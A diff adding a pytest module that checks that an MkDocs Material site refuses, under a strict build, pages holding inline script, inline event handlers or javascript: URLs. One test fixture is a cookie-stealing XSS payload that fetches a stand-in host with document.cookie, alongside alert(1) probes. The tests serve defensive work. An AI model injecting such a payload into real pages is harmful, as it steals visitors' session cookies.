@@ -1,0 +1,78 @@
+"""The build refuses inline script: the site's policy (script-src 'self', no hashes) would block it
+in the browser, so a page that carries one fails `mkdocs build --strict`, naming its file."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import ROOT
+
+CONFIG = """site_name: Hostile
+site_url: http://127.0.0.1:8000/
+docs_dir: docs
+strict: true
+theme:
+  name: material
+  custom_dir: {theme}
+  language: es
+  font: false
+plugins:
+  - search
+  - i18n:
+      docs_structure: folder
+      languages:
+        - {{locale: es, default: true, name: Español, build: true}}
+  - guide:
+      locales_dir: {root}/locales
+      pyodide_dir: {root}/node_modules/pyodide
+      packages: ["{root}"]
+"""
+
+
+def _build(folder: Path, pages: dict[str, str], theme: Path = ROOT / "overrides") -> subprocess.CompletedProcess:
+    """A throwaway one-locale site with the guide's theme and plugin, built with --strict."""
+    (folder / "mkdocs.yml").write_text(CONFIG.format(theme=theme, root=ROOT), encoding="utf-8")
+    for name, text in pages.items():
+        (folder / "docs" / "es" / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / "docs" / "es" / name).write_text(text, encoding="utf-8")
+    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
+    return subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(folder / "site")],
+                          cwd=folder, env=env, capture_output=True, text=True)
+
+
+@pytest.mark.slow  # a whole build; the real site's build (tests/conftest.py) already shows no false alarm
+def test_a_page_without_inline_script_builds(tmp_path):
+    """The fixture itself builds: Material's snippets are files here, and script shown as code is text."""
+    result = _build(tmp_path, {"index.md": "# Inicio\n\n```html\n<button onclick=\"go()\">x</button>\n```\n"})
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "&lt;button onclick=" in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(("markdown", "named"), [
+    ("# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n", "inline <script>"),
+    ('# Hola\n\n<img src="x.png" alt="" onerror="alert(1)">\n', "event handler onerror="),
+    pytest.param("# Hola\n\n[pulsa](javascript:alert(1))\n", "javascript: URL", marks=pytest.mark.slow),
+])
+def test_inline_script_in_a_markdown_page_fails_the_build_naming_the_file(tmp_path, markdown, named):
+    result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
+    log = result.stdout + result.stderr
+    assert result.returncode != 0
+    assert "docs/es/guia/hostil.md: the page's content has inline script" in log, log
+    assert named in log
+    assert not (tmp_path / "site" / "guia" / "hostil" / "index.html").exists()
+
+
+@pytest.mark.slow
+def test_materials_own_inline_snippets_fail_the_build_naming_the_template(tmp_path):
+    """Without the guide's overrides Material writes its inline snippets; the build names where."""
+    plain = tmp_path / "plain-theme"
+    plain.mkdir()
+    result = _build(tmp_path, {"index.md": "# Inicio\n\n```html\n<script>alert(1)</script>\n```\n"}, theme=plain)
+    log = result.stdout + result.stderr
+    assert result.returncode != 0
+    assert "The theme's templates put into" in log and "inline <script> '__md_scope=" in log, log
